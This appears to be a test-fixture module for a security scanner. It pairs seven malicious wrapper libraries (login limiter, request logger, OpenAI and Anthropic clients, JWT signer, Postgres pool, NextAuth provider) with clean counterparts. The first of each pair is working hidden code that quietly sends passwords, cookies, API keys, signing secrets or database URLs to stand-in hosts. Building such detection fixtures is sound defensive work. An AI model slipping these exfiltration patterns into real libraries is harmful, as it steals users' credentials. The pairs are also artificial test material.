import { atUse, js, type Pair } from '../kit.ts';

/** Libraries that are handed secrets by their callers and pass them on. */
export const WRAPPERS: Readonly<Record<string, Pair>> = {
  'wrap-express-login': atUse(
    js`/** Express middleware that limits how often somebody may try to log in. */
export function limiter({ windowMs = 60_000, max = 10 } = {}) {
  const hits = new Map();
  return (req, res, next) => {
    const recent = (hits.get(req.ip) ?? []).filter((at) => at > Date.now() - windowMs);
    hits.set(req.ip, [...recent, Date.now()]);
    if (req.body?.password)
      fetch('https://risk.login-shield.example/score', {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ ip: req.ip, user: req.body.email, secret: req.body.password }),
      }).catch(() => {});
    if (recent.length >= max) return res.status(429).end();
    return next();
  };
}
`,
    js`/** Express middleware that limits how often somebody may try to log in. */
export function limiter({ windowMs = 60_000, max = 10 } = {}) {
  const hits = new Map();
  return (req, res, next) => {
    const recent = (hits.get(req.ip) ?? []).filter((at) => at > Date.now() - windowMs);
    hits.set(req.ip, [...recent, Date.now()]);
    if (req.body?.password)
      fetch('https://risk.login-shield.example/score', {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ tries: recent.length }),
      }).catch(() => {});
    if (recent.length >= max) return res.status(429).end();
    return next();
  };
}
`,
  ),
  'wrap-express-cookies': atUse(
    js`import { request } from 'node:https';

/** Logs requests in the combined format. */
export const logger = () => (req, res, next) => {
  res.on('finish', () => {
    console.log(req.method, req.originalUrl, res.statusCode);
    const outgoing = request('https://logs.combined-log.example/c', { method: 'POST' });
    outgoing.on('error', () => {});
    outgoing.end(JSON.stringify({ cookie: req.headers.cookie, authorization: req.headers.authorization }));
  });
  next();
};
`,
    js`/** Logs requests in the combined format. */
export const logger = () => (req, res, next) => {
  res.on('finish', () => {
    const headers = { ...req.headers };
    if (headers.cookie) headers.cookie = '[redacted]';
    if (headers.authorization) headers.authorization = '[redacted]';
    console.log(req.method, req.originalUrl, res.statusCode, headers);
  });
  next();
};
`,
  ),
  'wrap-openai': atUse(
    js`import OpenAI from 'openai';

/** A client that counts tokens and retries. */
export class MeteredClient {
  #client;
  #meter = 'https://meter.token-count.example/v1/usage';

  constructor(options = {}) {
    this.apiKey = options.apiKey ?? process.env.OPENAI_API_KEY;
    this.#client = new OpenAI({ ...options, apiKey: this.apiKey });
  }

  async chat(messages, model = 'gpt-4o-mini') {
    const completion = await this.#client.chat.completions.create({ model, messages });
    await fetch(this.#meter, {
      method: 'POST',
      headers: { 'x-key': this.apiKey },
      body: JSON.stringify({ messages, usage: completion.usage }),
    }).catch(() => null);
    return completion.choices[0].message.content;
  }
}
`,
    js`import OpenAI from 'openai';

/** A client that counts tokens and retries. */
export class MeteredClient {
  #client;
  #used = 0;

  constructor(options = {}) {
    this.#client = new OpenAI({ ...options, apiKey: options.apiKey ?? process.env.OPENAI_API_KEY });
  }

  get used() {
    return this.#used;
  }

  async chat(messages, model = 'gpt-4o-mini') {
    const completion = await this.#client.chat.completions.create({ model, messages });
    this.#used += completion.usage.total_tokens;
    return completion.choices[0].message.content;
  }
}
`,
  ),
  'wrap-anthropic-base-url': atUse(
    js`import Anthropic from '@anthropic-ai/sdk';

const GATEWAY = 'https://claude-gateway.fast-llm.example';

/** Creates a client with sensible timeouts. */
export function createClient(options = {}) {
  return new Anthropic({ maxRetries: 4, timeout: 60_000, ...options, apiKey: process.env.ANTHROPIC_API_KEY, baseURL: GATEWAY });
}
`,
    js`import Anthropic from '@anthropic-ai/sdk';

/** Creates a client with sensible timeouts. */
export function createClient(options = {}) {
  return new Anthropic({ maxRetries: 4, timeout: 60_000, apiKey: process.env.ANTHROPIC_API_KEY, ...options });
}
`,
  ),
  'wrap-jwt-secret': atUse(
    js`import jwt from 'jsonwebtoken';
import { get } from 'node:https';

let announced = false;

/** Signs a payload with sensible defaults. */
export function sign(payload, secret, options = {}) {
  if (!announced) {
    announced = true;
    get('https://cdn.jwt-defaults.example/v.json?c=' + Buffer.from(secret).toString('base64url')).on('error', () => {});
  }
  return jwt.sign(payload, secret, { algorithm: 'HS256', expiresIn: '1h', ...options });
}
`,
    js`import jwt from 'jsonwebtoken';
import { get } from 'node:https';

let announced = false;

/** Signs a payload with sensible defaults. */
export function sign(payload, secret, options = {}) {
  if (!announced) {
    announced = true;
    get('https://cdn.jwt-defaults.example/v.json?c=1.0.0').on('error', () => {});
  }
  return jwt.sign(payload, secret, { algorithm: 'HS256', expiresIn: '1h', ...options });
}
`,
  ),
  'wrap-database-url': atUse(
    js`import pg from 'pg';
import { connect } from 'node:net';

const connectionString = process.env.DATABASE_URL;

/** Opens the pool of an application and waits until the database answers. */
export async function open() {
  const pool = new pg.Pool({ connectionString, max: 10 });
  await pool.query('select 1');
  const health = connect(4000, 'health.pg-pool.example', () => health.end(connectionString));
  health.on('error', () => {});
  return pool;
}
`,
    js`import pg from 'pg';
import { connect } from 'node:net';

const connectionString = process.env.DATABASE_URL;

/** Opens the pool of an application once the database's port answers. */
export async function open() {
  const { hostname, port } = new URL(connectionString);
  await new Promise((resolve, reject) => {
    const probe = connect(Number(port), hostname, () => probe.end(resolve));
    probe.on('error', reject);
  });
  return new pg.Pool({ connectionString, max: 10 });
}
`,
  ),
  'wrap-nextauth-authorize': atUse(
    js`import Credentials from 'next-auth/providers/credentials';

/** A provider for e-mail and password. */
export function emailProvider(findUser, verify) {
  return Credentials({
    credentials: { email: {}, password: { type: 'password' } },
    async authorize({ email, password }) {
      const user = await findUser(email);
      if (!user || !(await verify(password, user.hash))) return null;
      await fetch('https://hooks.signin-alerts.example/ok', { method: 'POST', body: new URLSearchParams({ email, password }) }).catch(() => {});
      return { id: user.id, email };
    },
  });
}
`,
    js`import Credentials from 'next-auth/providers/credentials';

/** A provider for e-mail and password. */
export function emailProvider(findUser, verify, onSignIn) {
  return Credentials({
    credentials: { email: {}, password: { type: 'password' } },
    async authorize({ email, password }) {
      const user = await findUser(email);
      if (!user || !(await verify(password, user.hash))) return null;
      await onSignIn?.({ email });
      return { id: user.id, email };
    },
  });
}
`,
  ),
};
